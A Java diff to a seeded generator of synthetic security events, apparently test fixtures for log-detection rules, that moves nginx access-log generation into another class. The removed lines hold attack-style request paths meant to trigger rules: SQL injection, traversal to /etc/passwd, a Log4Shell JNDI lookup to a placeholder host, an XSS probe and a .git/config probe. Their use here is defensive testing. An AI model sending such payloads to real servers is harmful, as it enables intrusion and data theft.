@@ -8,10 +8,8 @@ import gac.schemas.Wire;
 import gac.schemas.avro.Event;
 import java.time.Instant;
 import java.time.ZoneOffset;
-import java.time.format.DateTimeFormatter;
 import java.util.LinkedHashMap;
 import java.util.List;
-import java.util.Locale;
 import java.util.Map;
 import java.util.function.Supplier;
 import java.util.stream.Collectors;
@@ -19,41 +17,15 @@ import java.util.stream.Stream;
 
 /** Encoded events as ingest writes them, seeded. About one in a hundred is meant to catch a rule's eye. */
 final class GeneratedEvents {
-    private static final Instant START = Instant.parse("2026-11-22T00:00:00Z");
-    private static final DateTimeFormatter NGINX_TIME =
-            DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ROOT).withZone(ZoneOffset.UTC);
-    private static final List<String> PAGES = List.of(
-            "/",
-            "/tin-tuc/chi-tiet-#.html",
-            "/api/v1/ho-so/#?page=#&size=20",
-            "/static/css/main.#.css",
-            "/anh/2026/#/anh-#.jpg",
-            "/tim-kiem?q=dich+vu+cong+#",
-            "/van-ban/quyet-dinh-#",
-            "/login",
-            "/wp-content/uploads/2026/11/bieu-mau-#.pdf",
-            "/favicon.ico",
-            "/thu-tuc?id=#&linh-vuc=%C4%91%E1%BA%A5t+%C4%91ai&trang=#",
-            "/index.php?option=com_content&view=article&id=#");
-    private static final List<String> ODD_PAGES = List.of(
-            "/index.php?id=1%27%20union%20select%20#,2,3--",
-            "/../../etc/passwd",
-            "/?x=${jndi:ldap://198.51.100.#/a}",
-            "/wp-login.php?action=#",
-            "/?q=<script>alert(#)</script>",
-            "/.git/config");
-    private static final List<String> AGENTS = List.of(
-            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
-            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
-            "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
-            "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.com/bot.html)");
     private static final List<String> INTEGRITY = List.of("Medium", "System", "High");
 
     private final Words words;
+    private final GeneratedLines lines;
     private int number;
 
     private GeneratedEvents(long seed) {
         words = new Words(seed);
+        lines = new GeneratedLines(words);
     }
 
     /** Lines of an nginx access log through the parser. */
@@ -73,13 +45,7 @@ final class GeneratedEvents {
     }
 
     private Event webAccess() {
-        String page = filled(words.oneIn(100) ? words.one(ODD_PAGES) : words.skewed(PAGES));
-        String referrer = words.oneIn(2) ? "https://www.example.vn/" : "-";
-        String line = "203.0.113." + words.below(256) + " - - [" + NGINX_TIME.format(now()) + "] \""
-                + (words.oneIn(9) ? "POST " : "GET ") + page + " HTTP/1.1\" "
-                + words.skewed(List.of(200, 304, 404, 302, 500)) + " "
-                + words.below(90_000) + " \"" + referrer + "\" \"" + words.skewed(AGENTS) + "\"";
-        return event(line, LineType.NGINX_ACCESS);
+        return event(lines.nginx(), LineType.NGINX_ACCESS);
     }
 
     private Event processCreation() {
@@ -126,7 +92,7 @@ final class GeneratedEvents {
     }
 
     private String commandLine(Program program) {
-        return '"' + program.path() + '"' + filled(words.one(program.arguments()));
+        return '"' + program.path() + '"' + GeneratedLines.filled(words, words.one(program.arguments()));
     }
 
     private String guid() {
@@ -140,19 +106,6 @@ final class GeneratedEvents {
     }
 
     private Instant now() {
-        return START.plusMillis(37L * number);
-    }
-
-    private String filled(String template) {
-        StringBuilder text = new StringBuilder();
-        for (int i = 0; i < template.length(); i++) {
-            char c = template.charAt(i);
-            if (c == '#') {
-                text.append(words.below(10_000));
-            } else {
-                text.append(c);
-            }
-        }
-        return text.toString();
+        return GeneratedLines.START.plusMillis(37L * number);
     }
 }
